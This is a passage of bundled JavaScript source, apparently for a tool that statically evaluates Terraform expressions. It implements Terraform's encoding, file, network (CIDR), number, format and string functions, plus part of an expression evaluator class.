  if (isObject(value)) return Object.fromEntries(Object.keys(value).sort().map((key) => [key, toPlain(value[key])]));
  return value;
}
function csvDecode(text) {
  if (text.length > MAX_DECODED_LENGTH) fail("document too large");
  const rows = [];
  let row = [];
  let field = "";
  let quoted = false;
  let index = 0;
  const endField = () => {
    row.push(field);
    field = "";
  };
  while (index < text.length) {
    const char = text[index];
    if (quoted) {
      if (char === '"') {
        if (text[index + 1] === '"') {
          field += '"';
          index += 2;
          continue;
        }
        quoted = false;
      } else field += char;
      index++;
      continue;
    }
    if (char === '"' && field === "") quoted = true;
    else if (char === ",") endField();
    else if (char === "\n" || char === "\r") {
      if (char === "\r" && text[index + 1] === "\n") index++;
      endField();
      if (!(row.length === 1 && row[0] === "")) rows.push(row);
      row = [];
    } else field += char;
    index++;
  }
  if (field !== "" || row.length > 0) {
    endField();
    rows.push(row);
  }
  if (rows.length === 0) return [];
  const [header, ...body] = rows;
  return body.map((cells, line) => {
    if (cells.length !== header.length) fail(`csvdecode: line ${line + 2} has ${cells.length} fields, the header ${header.length}`);
    return objectOf(header.map((name, column) => [name, cells[column]]));
  });
}
function urlEncode(text) {
  return Array.from(Buffer.from(text, "utf8")).map((byte) => {
    const char = String.fromCharCode(byte);
    if (/[A-Za-z0-9\-_.~]/.test(char)) return char;
    if (char === " ") return "+";
    return `%${byte.toString(16).toUpperCase().padStart(2, "0")}`;
  }).join("");
}
function base64Decode(text) {
  if (!/^[A-Za-z0-9+/]*={0,2}$/.test(text) || text.length % 4 !== 0) fail(`failed to decode base64 data`);
  const bytes = Buffer.from(text, "base64");
  const decoded = new TextDecoder("utf-8", { fatal: false }).decode(bytes);
  if (decoded.includes("�") && !text.includes("77-9")) fail("the result of decoding the provided string is not valid UTF-8");
  return decoded;
}
function hash(algorithm, encoding) {
  return fn([1, 1], ([value]) => createHash(algorithm).update(asString(value), "utf8").digest(encoding));
}
var encodingFunctions = /* @__PURE__ */ new Map([
  [
    "jsonencode",
    fn(
      [1, 1],
      ([value]) => {
        if (isUnknown(value)) return Unknown;
        return isFullyKnown2(value) ? encodeJson(value) : value;
      },
      true
    )
  ],
  ["jsondecode", fn([1, 1], ([text]) => jsonDecode(asString(text)))],
  ["yamlencode", fn([1, 1], ([value]) => yamlEncode(value))],
  ["yamldecode", fn([1, 1], ([text]) => yamlDecode(asString(text)))],
  ["base64encode", fn([1, 1], ([text]) => Buffer.from(asString(text), "utf8").toString("base64"))],
  ["base64decode", fn([1, 1], ([text]) => base64Decode(asString(text)))],
  ["urlencode", fn([1, 1], ([text]) => urlEncode(asString(text)))],
  ["csvdecode", fn([1, 1], ([text]) => csvDecode(asString(text)))],
  ["md5", hash("md5", "hex")],
  ["sha1", hash("sha1", "hex")],
  ["sha256", hash("sha256", "hex")],
  ["sha512", hash("sha512", "hex")],
  ["base64sha256", hash("sha256", "base64")],
  ["base64sha512", hash("sha512", "base64")]
]);

// packages/engine/src/graph/terraform/functions/files.ts
import path5 from "node:path";
var fileFunctions = /* @__PURE__ */ new Map([
  ["file", fn([1, 1], ([name], context) => context.readFile(asString(name)) ?? Unknown)],
  ["filebase64", fn([1, 1], ([name], context) => {
    const text = context.readFile(asString(name));
    return text === void 0 ? Unknown : Buffer.from(text, "utf8").toString("base64");
  })],
  ["fileexists", fn([1, 1], ([name], context) => context.readFile(asString(name)) === void 0 ? Unknown : true)],
  [
    "templatefile",
    fn(
      [2, 2],
      ([name, vars], context) => {
        const text = context.readFile(asString(name));
        if (text === void 0) return Unknown;
        return context.renderTemplate(text, vars);
      },
      true
    )
  ],
  ["basename", fn([1, 1], ([name]) => path5.posix.basename(asString(name)))],
  ["dirname", fn([1, 1], ([name]) => path5.posix.dirname(asString(name)))],
  ["pathexpand", fn([1, 1], ([name]) => asString(name).startsWith("~") ? Unknown : asString(name))],
  ["abspath", fn([1, 1], () => Unknown)]
]);
var unknowableFunctions = new Map(
  ["timestamp", "plantimestamp", "uuid", "bcrypt", "uuidv5", "filemd5", "filesha1", "filesha256", "filesha512", "filebase64sha256", "filebase64sha512", "fileset", "ephemeralasnull", "timeadd", "formatdate", "timecmp", "rsadecrypt", "textdecodebase64", "textencodebase64", "type"].map(
    (name) => [name, fn([0], () => Unknown, true)]
  )
);

// packages/engine/src/graph/terraform/functions/network.ts
import { isIPv4, isIPv6 } from "node:net";
function parseIPv4(text) {
  const parts = text.split(".");
  if (parts.length !== 4 || !isIPv4(text)) fail(`invalid IP address "${text}"`);
  return parts.reduce((value, part) => value << 8n | BigInt(Number(part)), 0n);
}
function parseIPv6(text) {
  if (!isIPv6(text)) fail(`invalid IP address "${text}"`);
  let groups;
  let head = text;
  let ipv4Tail;
  const lastColon = head.lastIndexOf(":");
  if (head.slice(lastColon + 1).includes(".")) {
    ipv4Tail = parseIPv4(head.slice(lastColon + 1));
    head = `${head.slice(0, lastColon + 1)}0:0`;
  }
  const [left, right] = head.split("::");
  const leftGroups = left ? left.split(":") : [];
  if (right === void 0) groups = leftGroups;
  else {
    const rightGroups = right ? right.split(":") : [];
    groups = [...leftGroups, ...Array(8 - leftGroups.length - rightGroups.length).fill("0"), ...rightGroups];
  }
  let value = groups.reduce((total, group) => total << 16n | BigInt(parseInt(group || "0", 16)), 0n);
  if (ipv4Tail !== void 0) value = value & ~0xffffffffn | ipv4Tail;
  return value;
}
function parsePrefix(text) {
  const slash = text.indexOf("/");
  if (slash === -1) fail(`invalid CIDR address "${text}"`);
  const ip = text.slice(0, slash);
  const lengthText = text.slice(slash + 1);
  if (!/^\d{1,3}$/.test(lengthText)) fail(`invalid CIDR address "${text}"`);
  const length = Number(lengthText);
  const bits = ip.includes(":") ? 128 : 32;
  if (length > bits) fail(`invalid CIDR address "${text}"`);
  const address = bits === 32 ? parseIPv4(ip) : parseIPv6(ip);
  const hostBits = BigInt(bits - length);
  return { address: address >> hostBits << hostBits, length, bits };
}
function formatAddress(address, bits) {
  if (bits === 32) return [24n, 16n, 8n, 0n].map((shift) => String(address >> shift & 0xffn)).join(".");
  const groups = [];
  for (let shift = 112n; shift >= 0n; shift -= 16n) groups.push(Number(address >> shift & 0xffffn));
  let bestStart = -1;
  let bestLength = 0;
  for (let start = 0; start < 8; ) {
    if (groups[start] !== 0) {
      start++;
      continue;
    }
    let end = start;
    while (end < 8 && groups[end] === 0) end++;
    if (end - start > bestLength && end - start >= 2) {
      bestStart = start;
      bestLength = end - start;
    }
    start = end;
  }
  const hex = groups.map((group) => group.toString(16));
  if (bestStart === -1) return hex.join(":");
  return `${hex.slice(0, bestStart).join(":")}::${hex.slice(bestStart + bestLength).join(":")}`;
}
function subnet(prefix, newBits, number) {
  const length = prefix.length + newBits;
  if (newBits < 0 || length > prefix.bits) fail(`insufficient address space to extend prefix of ${prefix.length} by ${newBits}`);
  if (number < 0 || BigInt(number) >= 1n << BigInt(newBits)) fail(`prefix extension of ${newBits} does not accommodate a subnet numbered ${number}`);
  const shift = BigInt(prefix.bits - length);
  return { address: prefix.address | BigInt(number) << shift, length, bits: prefix.bits };
}
function host(prefix, number) {
  const hostBits = BigInt(prefix.bits - prefix.length);
  const size = 1n << hostBits;
  let offset = BigInt(number);
  if (offset < 0n) offset += size;
  if (offset < 0n || offset >= size) fail(`prefix of ${prefix.length} does not accommodate a host numbered ${number}`);
  return formatAddress(prefix.address | offset, prefix.bits);
}
function netmask(prefix) {
  if (prefix.bits !== 32) fail("only IPv4 networks have a netmask");
  const mask = prefix.length === 0 ? 0n : (1n << BigInt(prefix.length)) - 1n << BigInt(32 - prefix.length);
  return formatAddress(mask, 32);
}
function subnets(prefix, sizes) {
  const out = [];
  let next = prefix.address;
  const end = prefix.address + (1n << BigInt(prefix.bits - prefix.length));
  for (const newBits of sizes) {
    const length = prefix.length + newBits;
    if (newBits < 1 || length > prefix.bits) fail(`would extend prefix to ${length} bits, which is too long for this address`);
    const size = 1n << BigInt(prefix.bits - length);
    const start = (next + size - 1n) / size * size;
    if (start + size > end) fail("not enough remaining address space for a subnet");
    out.push(`${formatAddress(start, prefix.bits)}/${length}`);
    next = start + size;
  }
  return out;
}
var networkFunctions = /* @__PURE__ */ new Map([
  [
    "cidrsubnet",
    fn([3, 3], ([cidr, newBits, number]) => {
      const result = subnet(parsePrefix(asString(cidr)), asInteger(newBits), asInteger(number));
      return `${formatAddress(result.address, result.bits)}/${result.length}`;
    })
  ],
  ["cidrhost", fn([2, 2], ([cidr, number]) => host(parsePrefix(asString(cidr)), asInteger(number)))],
  ["cidrnetmask", fn([1, 1], ([cidr]) => netmask(parsePrefix(asString(cidr))))],
  ["cidrsubnets", fn([1], ([cidr, ...sizes]) => subnets(parsePrefix(asString(cidr)), sizes.map((size) => asInteger(size))))]
]);

// packages/engine/src/graph/terraform/functions/numbers.ts
function numbers(args) {
  return args.map((arg) => asNumber(arg));
}
function parseInteger(text, base) {
  if (!Number.isInteger(base) || base < 2 || base > 62) fail("base must be a whole number between 2 and 62");
  const digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
  let body = text;
  let sign = 1;
  if (body.startsWith("-")) {
    sign = -1;
    body = body.slice(1);
  } else if (body.startsWith("+")) body = body.slice(1);
  if (body === "") fail(`cannot parse "${text}" as a base ${base} integer`);
  let value = 0;
  for (const char of body) {
    let digit = digits.indexOf(char);
    if (base <= 36 && digit >= 36) digit -= 26;
    if (digit < 0 || digit >= base) fail(`cannot parse "${text}" as a base ${base} integer`);
    value = value * base + digit;
  }
  return sign * value;
}
var numberFunctions = /* @__PURE__ */ new Map([
  [
    "min",
    fn([1], (args) => Math.min(...numbers(args)))
  ],
  [
    "max",
    fn([1], (args) => Math.max(...numbers(args)))
  ],
  ["abs", fn([1, 1], ([value]) => Math.abs(asNumber(value)) + 0)],
  ["ceil", fn([1, 1], ([value]) => Math.ceil(asNumber(value)) + 0)],
  ["floor", fn([1, 1], ([value]) => Math.floor(asNumber(value)) + 0)],
  [
    "log",
    fn([2, 2], ([value, base]) => {
      const result = Math.log(asNumber(value)) / Math.log(asNumber(base));
      const rounded = Math.round(result);
      return Math.abs(result - rounded) < 1e-12 ? rounded : result;
    })
  ],
  ["pow", fn([2, 2], ([value, power]) => Math.pow(asNumber(value), asNumber(power)))],
  ["signum", fn([1, 1], ([value]) => Math.sign(asNumber(value)) + 0)],
  ["parseint", fn([2, 2], ([text, base]) => parseInteger(asString(text), asInteger(base)))]
]);

// packages/engine/src/graph/terraform/functions/format.ts
var VERB = /%([-+# 0]*)(?:\[(\d+)\])?(\d+|\*)?(?:\.(\d*))?(?:\[(\d+)\])?([a-zA-Z%])/gy;
function formatString(spec, args) {
  let out = "";
  let next = 0;
  let position = 0;
  while (position < spec.length) {
    const percent = spec.indexOf("%", position);
    if (percent === -1) {
      out += spec.slice(position);
      break;
    }
    out += spec.slice(position, percent);
    VERB.lastIndex = percent;
    const match = VERB.exec(spec);
    if (!match) fail(`invalid format verb at ${percent}`);
    position = VERB.lastIndex;
    const [, flags = "", index1, widthText, precisionText, index2, verb] = match;
    if (verb === "%") {
      out += "%";
      continue;
    }
    const index = index1 ?? index2;
    if (index !== void 0) next = Number(index) - 1;
    if (next >= args.length || next < 0) fail(`not enough arguments for "%${verb}"`);
    const arg = args[next++];
    if (arg === null) return Unknown;
    if (!isFullyKnown2(arg)) return Unknown;
    const width = widthText === void 0 || widthText === "*" ? void 0 : Number(widthText);
    const precision = precisionText === void 0 ? void 0 : precisionText === "" ? 0 : Number(precisionText);
    out += pad(render(verb, flags, precision, arg), width, flags);
  }
  return out;
}
function render(verb, flags, precision, arg) {
  switch (verb) {
    case "v":
      if (flags.includes("#")) return encodeJson(arg);
      if (typeof arg === "string") return arg;
      if (typeof arg === "number") return formatNumber(arg);
      if (typeof arg === "boolean") return String(arg);
      return encodeJson(arg);
    case "t":
      if (typeof arg !== "boolean") fail(`unsupported value for "%t": bool required`);
      return String(arg);
    case "s":
      if (typeof arg !== "string" && typeof arg !== "number" && typeof arg !== "boolean") fail(`unsupported value for "%s": string required`);
      return precision === void 0 ? asString(arg) : [...asString(arg)].slice(0, precision).join("");
    case "q":
      if (typeof arg !== "string" && typeof arg !== "number" && typeof arg !== "boolean") fail(`unsupported value for "%q": string required`);
      return JSON.stringify(asString(arg));
    case "d":
    case "b":
    case "o":
    case "x":
    case "X": {
      const number = integerArg(arg, verb);
      const radix = verb === "d" ? 10 : verb === "b" ? 2 : verb === "o" ? 8 : 16;
      let text = Math.abs(number).toString(radix);
      if (verb === "X") text = text.toUpperCase();
      const sign = number < 0 ? "-" : flags.includes("+") ? "+" : flags.includes(" ") ? " " : "";
      return sign + text;
    }
    case "e":
    case "E":
    case "f":
    case "F":
    case "g":
    case "G": {
      const number = numberArg(arg, verb);
      let text;
      if (verb === "f" || verb === "F") text = Math.abs(number).toFixed(precision ?? 6);
      else if (verb === "e" || verb === "E") text = goExponent(Math.abs(number).toExponential(precision ?? 6));
      else text = shortestG(Math.abs(number), precision);
      if (verb === "E" || verb === "G") text = text.toUpperCase();
      const sign = number < 0 || Object.is(number, -0) ? "-" : flags.includes("+") ? "+" : flags.includes(" ") ? " " : "";
      return sign + text;
    }
    default:
      return fail(`unsupported format verb "%${verb}"`);
  }
}
function integerArg(arg, verb) {
  if (typeof arg !== "number" && typeof arg !== "string") fail(`unsupported value for "%${verb}": a number is required`);
  const number = asNumber(arg);
  if (!Number.isInteger(number)) fail(`unsupported value for "%${verb}": an integer is required`);
  return number;
}
function numberArg(arg, verb) {
  if (typeof arg !== "number" && typeof arg !== "string") fail(`unsupported value for "%${verb}": a number is required`);
  return asNumber(arg);
}
function goExponent(text) {
  return text.replace(/e([+-])(\d)$/, "e$10$2");
}
function shortestG(number, precision) {
  if (number === 0) return "0";
  const exponent = Math.floor(Math.log10(number));
  const limit = precision ?? 21;
  if (exponent < -4 || exponent >= limit) {
    const text = precision === void 0 ? number.toExponential() : number.toExponential(Math.max(precision - 1, 0));
    return goExponent(text.replace(/\.?0+e/, "e"));
  }
  if (precision === void 0) return formatNumber(number);
  return String(Number(number.toPrecision(Math.max(precision, 1))));
}
function pad(text, width, flags) {
  const length = [...text].length;
  if (width === void 0 || length >= width) return text;
  if (flags.includes("-")) return text + " ".repeat(width - length);
  if (flags.includes("0") && /^[+\- ]?[\d.]/.test(text)) {
    const sign = /^[+\- ]/.test(text) ? text[0] : "";
    return sign + "0".repeat(width - length) + text.slice(sign.length);
  }
  return " ".repeat(width - length) + text;
}

// packages/engine/src/graph/terraform/functions/strings.ts
var compiled = /* @__PURE__ */ new Map();
var MAX_PATTERN_LENGTH = 4096;
function compile(pattern) {
  let regex = compiled.get(pattern);
  if (regex) return regex;
  if (pattern.length > MAX_PATTERN_LENGTH) fail("regular expression too long");
  try {
    regex = RE2JS.compile(pattern);
  } catch (error) {
    return fail(`invalid regexp pattern: ${error instanceof Error ? error.message : String(error)}`);
  }
  if (compiled.size > 1e3) compiled.clear();
  compiled.set(pattern, regex);
  return regex;
}
function characters(text) {
  return [...text];
}
function regexResult(pattern, text) {
  const regex = compile(pattern);
  const matcher = regex.matcher(text);
  if (!matcher.find()) return void 0;
  return matchValue(regex, matcher);
}
function matchValue(regex, matcher) {
  const groups = regex.groupCount();
  if (groups === 0) return matcher.group(0) ?? "";
  const named = regex.namedGroups();
  const names = Object.keys(named);
  if (names.length > 0) {
    if (names.length !== groups) fail("regex: cannot mix named and unnamed capture groups");
    return objectOf(names.map((name) => [name, matcher.group(named[name]) ?? null]));
  }
  const list = [];
  for (let group = 1; group <= groups; group++) list.push(matcher.group(group) ?? null);
  return list;
}
function expandReplacement(template, regex, matcher) {
  const named = regex.namedGroups();
  return template.replace(/\$(\$|\{(\w+)\}|(\w+))/g, (_all, escape, braced, bare) => {
    if (escape === "$") return "$";
    const name = braced ?? bare ?? "";
    const index = /^\d+$/.test(name) ? Number(name) : named[name];
    if (index === void 0 || index > regex.groupCount()) return "";
    return matcher.group(index) ?? "";
  });
}
function replaceString(text, search, replacement) {
  if (search.length > 2 && search.startsWith("/") && search.endsWith("/")) {
    const regex = compile(search.slice(1, -1));
    const matcher = regex.matcher(text);
    let out = "";
    let last = 0;
    let guard = 0;
    while (matcher.find()) {
      const start = matcher.start();
      const end = matcher.end();
      out += text.slice(last, start) + expandReplacement(replacement, regex, matcher);
      last = end;
      if (++guard > text.length + 1) break;
    }
    return out + text.slice(last);
  }
  if (search === "") return text;
  return text.split(search).join(replacement);
}
function mapRunes(text, change) {
  let out = "";
  for (const char of text) {
    const changed = change(char);
    out += [...changed].length === 1 ? changed : char;
  }
  return out;
}
function title(text) {
  let out = "";
  let previous = " ";
  for (const char of text) {
    const separator = !/[\p{L}\p{N}_]/u.test(previous);
    out += separator ? char.toUpperCase() : char;
    previous = char;
  }
  return out;
}
function trimSet(text, cutset, start, end) {
  const set = new Set(characters(cutset));
  const chars = characters(text);
  let from = 0;
  let to = chars.length;
  if (start) while (from < to && set.has(chars[from])) from++;
  if (end) while (to > from && set.has(chars[to - 1])) to--;
  return chars.slice(from, to).join("");
}
function substr(text, offset, length) {
  const chars = characters(text);
  let start = offset < 0 ? chars.length + offset : offset;
  if (start < 0) start = 0;
  if (start > chars.length) fail("offset out of range");
  let end = length < 0 ? chars.length : start + length;
  if (length < -1) end = chars.length + length + 1;
  return chars.slice(start, Math.min(end, chars.length)).join("");
}
function str(name, operation) {
  return fn([1, 1], ([value]) => operation(asString(value, name)));
}
var stringFunctions = /* @__PURE__ */ new Map([
  ["format", fn([1], ([spec, ...args]) => formatString(asString(spec, "format"), args), true)],
  [
    "formatlist",
    fn(
      [1],
      ([spec, ...args]) => {
        if (isUnknown(spec)) return Unknown;
        let length;
        for (const arg of args) {
          if (isUnknown(arg)) return Unknown;
          if (!Array.isArray(arg)) continue;
          if (length !== void 0 && arg.length !== length) fail("formatlist: all lists must have the same length");
          length = arg.length;
        }
        if (length === void 0) fail("formatlist: at least one argument must be a list");
        const out = [];
        for (let index = 0; index < (length ?? 0); index++) {
          out.push(formatString(asString(spec), args.map((arg) => Array.isArray(arg) ? arg[index] : arg)));
        }
        return out;
      },
      true
    )
  ],
  ["join", fn([2], ([separator, ...lists]) => lists.flatMap((list) => asList2(list)).map((item) => asString(item, "join element")).join(asString(separator)))],
  ["split", fn([2, 2], ([separator, text]) => asString(text).split(asString(separator)))],
  ["lower", str("lower", (text) => mapRunes(text, (char) => char.toLowerCase()))],
  ["upper", str("upper", (text) => mapRunes(text, (char) => char.toUpperCase()))],
  ["title", str("title", title)],
  ["strrev", str("strrev", (text) => characters(text).reverse().join(""))],
  ["chomp", str("chomp", (text) => text.slice(0, endWithout(text, (char) => char === "\n" || char === "\r")))],
  ["trimspace", str("trimspace", (text) => trimWhere(text, isUnicodeSpace))],
  ["trim", fn([2, 2], ([text, cutset]) => trimSet(asString(text), asString(cutset), true, true))],
  [
    "trimprefix",
    fn([2, 2], ([text, prefix]) => {
      const value = asString(text);
      const cut = asString(prefix);
      return value.startsWith(cut) ? value.slice(cut.length) : value;
    })
  ],
  [
    "trimsuffix",
    fn([2, 2], ([text, suffix]) => {
      const value = asString(text);
      const cut = asString(suffix);
      return cut && value.endsWith(cut) ? value.slice(0, value.length - cut.length) : value;
    })
  ],
  ["replace", fn([3, 3], ([text, search, replacement]) => replaceString(asString(text), asString(search), asString(replacement)))],
  ["substr", fn([3, 3], ([text, offset, length]) => substr(asString(text), asInteger(offset), asInteger(length)))],
  [
    "indent",
    fn([2, 2], ([spaces, text]) => {
      const prefix = " ".repeat(Math.max(0, Math.min(asInteger(spaces), 1e3)));
      return asString(text).replace(/\n/g, `
${prefix}`);
    })
  ],
  ["startswith", fn([2, 2], ([text, prefix]) => asString(text).startsWith(asString(prefix)))],
  ["endswith", fn([2, 2], ([text, suffix]) => asString(text).endsWith(asString(suffix)))],
  ["strcontains", fn([2, 2], ([text, part]) => asString(text).includes(asString(part)))],
  [
    "regex",
    fn([2, 2], ([pattern, text]) => {
      const result = regexResult(asString(pattern), asString(text));
      if (result === void 0) fail("pattern did not match any part of the given string");
      return result;
    })
  ],
  [
    "regexall",
    fn([2, 2], ([pattern, text]) => {
      const regex = compile(asString(pattern));
      const value = asString(text);
      const matcher = regex.matcher(value);
      const out = [];
      while (matcher.find()) {
        out.push(matchValue(regex, matcher));
        if (out.length > value.length + 1) break;
      }
      return out;
    })
  ]
]);
function endWithout(text, drop) {
  let end = text.length;
  while (end > 0 && drop(text[end - 1])) end--;
  return end;
}
function trimWhere(text, drop) {
  let start = 0;
  while (start < text.length && drop(text[start])) start++;
  return text.slice(start, Math.max(start, endWithout(text, drop)));
}
function isUnicodeSpace(char) {
  return /[\s\u0085\u00a0]/u.test(char);
}

// packages/engine/src/graph/terraform/functions/index.ts
var identity2 = fn([1, 1], ([value]) => value, true);
var FUNCTIONS = new Map([
  ...stringFunctions,
  ...collectionFunctions,
  ...numberFunctions,
  ...encodingFunctions,
  ...networkFunctions,
  ...conversionFunctions,
  ...fileFunctions,
  ...unknowableFunctions,
  ["sensitive", identity2],
  ["nonsensitive", identity2]
]);
function callFunction(name, args, context) {
  const found = FUNCTIONS.get(name);
  if (!found) return Unknown;
  const [min, max] = found.arity;
  if (args.length < min || max !== void 0 && args.length > max) fail(`${name}: wrong number of arguments`);
  if (args.some((arg) => isUnknown(arg))) return Unknown;
  if (!found.partial && !args.every(isFullyKnown2)) return Unknown;
  return found.call(args, context);
}

// packages/engine/src/graph/terraform/expressions.ts
var NO_BINDINGS = /* @__PURE__ */ new Map();
var ExpressionEvaluator = class {
  constructor(resolver, budget, functions) {
    this.resolver = resolver;
    this.budget = budget;
    this.functions = functions;
  }
  resolver;
  budget;
  functions;
  /** The value, or Unknown where Terraform would fail: a scan never stops on a broken expression. */
  evaluateOrUnknown(expression, bindings = NO_BINDINGS) {
    try {
      return this.evaluate(expression, bindings);
    } catch (error) {
      if (error instanceof EvaluationError || error instanceof BudgetExceeded) return Unknown;
      throw error;
    }
  }
  evaluate(expression, bindings = NO_BINDINGS) {
    this.budget.step();
    switch (expression.kind) {
      case "literal":
        return typeof expression.value === "number" && !Number.isFinite(expression.value) ? Unknown : expression.value;
      case "template":
        return this.template(expression.parts, bindings);
      case "tuple":
        return expression.items.map((item) => this.evaluate(item, bindings));
      case "object": {
        const object = emptyObject();
        let unknownKey = false;
        for (const item of expression.items) {
          const key = this.evaluate(item.key, bindings);
          if (isUnknown(key)) {
            unknownKey = true;
            this.evaluate(item.value, bindings);
            continue;
          }
          if (key === null) fail("object key is null");
          object[keyString(key, "object key")] = this.evaluate(item.value, bindings);
        }
        return unknownKey ? Unknown : object;
      }
      case "traversal":
        return this.traversal(expression, bindings);
      case "call":
        return this.call(expression.name, expression.args, expression.expandFinal, bindings);
      case "conditional": {
        const condition = this.evaluate(expression.condition, bindings);
        if (isUnknown(condition)) {
          const whenTrue = this.evaluateOrUnknown(expression.trueResult, bindings);
          const whenFalse = this.evaluateOrUnknown(expression.falseResult, bindings);
          return equals(whenTrue, whenFalse) === true ? whenTrue : Unknown;
        }
        const chosen = asBool(condition, "condition") ? expression.trueResult : expression.falseResult;
        const other = chosen === expression.trueResult ? expression.falseResult : expression.trueResult;
        return this.unifyConditional(this.evaluate(chosen, bindings), other);
      }
      case "unary": {
        const operand = this.evaluate(expression.operand, bindings);
        if (isUnknown(operand)) return Unknown;
        return expression.operator === "-" ? -asNumber(operand) + 0 : !asBool(operand);
      }
      case "binary":
        return this.binary(expression, bindings);
      case "for":
        return this.forExpression(expression, bindings);
      case "splat":
        return this.splat(expression, bindings);
      case "index":
        return this.index(this.evaluate(expression.source, bindings), this.evaluate(expression.key, bindings));
      case "getAttr":
        return this.attribute(this.evaluate(expression.source, bindings), expression.name);
      case "parenthesis":
        return this.evaluate(expression.expression, bindings);
    }
  }
  /** `true ? 1 : "a"` is the string "1": both results are converted to a common type. */
  unifyConditional(value, other) {
    if (typeof value !== "number" && typeof value !== "boolean") return value;
    const otherIsString = other.kind === "literal" && typeof other.value === "string" || other.kind === "template" && other.parts.length !== 1;
    return otherIsString ? asString(value) : value;
  }
  traversal(traversal, bindings) {
    let value;
    let consumed = 0;
    if (bindings.has(traversal.root)) value = bindings.get(traversal.root);
    else ({ value, consumed } = this.resolver.resolve(traversal, bindings));
    return this.steps(value, traversal.steps.slice(consumed), bindings);
  }
  steps(value, steps, bindings) {
    let current = value;
    for (const step of steps) {
      if (isUnknown(current)) return Unknown;
      current = step.type === "attr" ? this.attribute(current, step.name) : this.index(current, this.evaluate(step.key, bindings));
    }
    return current;
  }
  attribute(value, name) {
    if (isUnknown(value)) return Unknown;
    if (isObject(value)) {
      if (hasKey(value, name)) return value[name];
      return isComputed(value) ? Unknown : fail(`object has no attribute "${name}"`);
    }
    if (value === null) fail(`attempt to get attribute "${name}" from null`);
    return fail(`cannot read attribute "${name}" of a ${typeName(value)}`);
  }
  index(value, key) {
    if (isUnknown(value) || isUnknown(key)) return Unknown;
    if (Array.isArray(value)) {
      const position = asNumber(key, "index");
      if (!Number.isInteger(position)) fail("index must be a whole number");
      if (position < 0 || position >= value.length) return isComputed(value) ? Unknown : fail(`index ${position} out of range`);
      return value[position];
    }
    if (isObject(value)) {
      const name = keyString(key, "key");
      if (hasKey(value, name)) return value[name];
      return isComputed(value) ? Unknown : fail(`no element with key "${name}"`);
    }
    if (value === null) fail("cannot index null");
    return fail(`cannot index a ${typeName(value)}`);
  }
  call(name, argExpressions, expandFinal, bindings) {
    if (name === "try") {
      for (const arg of argExpressions) {
        try {
          const value = this.evaluate(arg, bindings);
          return value;
        } catch (error) {
          if (!(error instanceof EvaluationError)) throw error;
        }
      }
      return fail("no expression given to try succeeded");
    }
    if (name === "can") {
      if (argExpressions.length !== 1) fail("can takes one argument");
      try {
        const value = this.evaluate(argExpressions[0], bindings);
        return isUnknown(value) ? Unknown : true;
      } catch (error) {
        if (error instanceof EvaluationError) return false;
        throw error;
      }
    }
    const args = argExpressions.map((arg) => this.evaluate(arg, bindings));
    if (expandFinal) {
      const last = args.pop();
      if (isUnknown(last)) return Unknown;
      if (!Array.isArray(last)) fail("the final argument to expand must be a list");
      args.push(...last);
    }
    return callFunction(name, args, this.functions);
  }
  binary(expression, bindings) {
    const { operator } = expression;
    if (operator === "&&" || operator === "||") {
      const left2 = this.evaluate(expression.left, bindings);
      if (!isUnknown(left2)) {
        const leftValue = asBool(left2, "operand");
        if (operator === "&&" && !leftValue) return false;
        if (operator === "||" && leftValue) return true;
      }
      const right2 = this.evaluate(expression.right, bindings);
      if (!isUnknown(right2)) {
        const rightValue = asBool(right2, "operand");
        if (operator === "&&" && !rightValue) return false;
        if (operator === "||" && rightValue) return true;
      }
      if (isUnknown(left2) || isUnknown(right2)) return Unknown;
      return asBool(right2);
    }
    const left = this.evaluate(expression.left, bindings);
    const right = this.evaluate(expression.right, bindings);
    if (operator === "==" || operator === "!=") {
      const same = equals(left, right);
      if (isUnknown(same)) return Unknown;
      return operator === "==" ? same : !same;
    }
    if (isUnknown(left) || isUnknown(right)) return Unknown;
    const a = asNumber(left, "operand");
    const b = asNumber(right, "operand");
    switch (operator) {
      case "+":
        return a + b;
      case "-":
        return a - b;
      case "*":
        return a * b;
      case "/":
        return b === 0 ? Unknown : a / b;
      case "%":
        return b === 0 ? fail("modulo by zero") : a % b + 0;
      case ">":
        return a > b;
      case ">=":
        return a >= b;
      case "<":
        return a < b;
      case "<=":
        return a <= b;
    }
  }
  forExpression(expression, bindings) {
    const collection = this.evaluate(expression.collection, bindings);
    if (isUnknown(collection)) return Unknown;
    let entries;
    if (Array.isArray(collection)) entries = collection.map((item, index) => [index, item]);
    else if (isObject(collection)) entries = sortedKeys(collection).map((key) => [key, collection[key]]);
    else if (collection === null) return fail("cannot iterate over null");
    else return fail(`cannot iterate over a ${typeName(collection)}`);
    this.budget.expansion(entries.length, "a for expression");
    const inner = new Map(bindings);
    const bind = (key, value) => {
      if (expression.keyVar) inner.set(expression.keyVar, key);
      inner.set(expression.valueVar, value);
    };
    if (expression.result === "tuple") {
      const out2 = [];
      for (const [key, value] of entries) {
        bind(key, value);
        if (expression.condition) {
          const keep = this.evaluate(expression.condition, inner);
          if (isUnknown(keep)) return Unknown;
          if (!asBool(keep, "for condition")) continue;
        }
        out2.push(this.evaluate(expression.valueExpr, inner));
      }
      return out2;
    }
    const out = emptyObject();
    for (const [key, value] of entries) {
      bind(key, value);
      if (expression.condition) {
        const keep = this.evaluate(expression.condition, inner);
        if (isUnknown(keep)) return Unknown;
        if (!asBool(keep, "for condition")) continue;
      }
      const keyValue = this.evaluate(expression.keyExpr, inner);
      if (isUnknown(keyValue)) return Unknown;
      if (keyValue === null) fail("for expression key is null");
      const name = keyString(keyValue, "for expression key");
      const item = this.evaluate(expression.valueExpr, inner);
      if (expression.grouping) {
        const group = out[name];
        if (Array.isArray(group)) group.push(item);
        else out[name] = [item];
      } else {
        if (hasKey(out, name)) fail(`duplicate key "${name}" in for expression; use ... to group`);
        out[name] = item;
      }
    }
    return out;
  }
  splat(expression, bindings) {
    const source = this.evaluate(expression.source, bindings);
    if (isUnknown(source)) return Unknown;
    if (source === null) return [];
    const items = Array.isArray(source) ? source : [source];
    return items.map((item) => this.steps(item, expression.each, bindings));
  }
  template(parts, bindings) {
    if (parts.length === 1 && typeof parts[0] !== "string" && parts[0].kind !== "templateIf" && parts[0].kind !== "templateFor") {
      return this.evaluate(parts[0], bindings);
    }
    const text = this.templateText(parts, bindings);
    return text;
  }
  /** The text of template parts; Unknown when any interpolated part is unknown. */
  templateText(parts, bindings) {
    let text = "";
    for (const part of parts) {
      if (typeof part === "string") {
        text += part;
        continue;
      }
      let piece;
      if (part.kind === "templateIf") {
        const condition = this.evaluate(part.condition, bindings);
        if (isUnknown(condition)) return Unknown;
